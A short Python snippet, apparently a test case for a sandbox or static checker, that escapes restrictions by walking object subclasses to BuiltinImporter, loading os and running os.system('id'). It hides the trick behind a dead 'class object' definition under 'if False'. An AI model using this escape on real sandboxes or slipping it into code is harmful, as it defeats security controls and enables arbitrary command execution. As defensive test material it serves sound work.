# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: class statement named `object` that never runs (if False), so `object` stays the builtin at run time
if False:
    class object:
        pass

for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
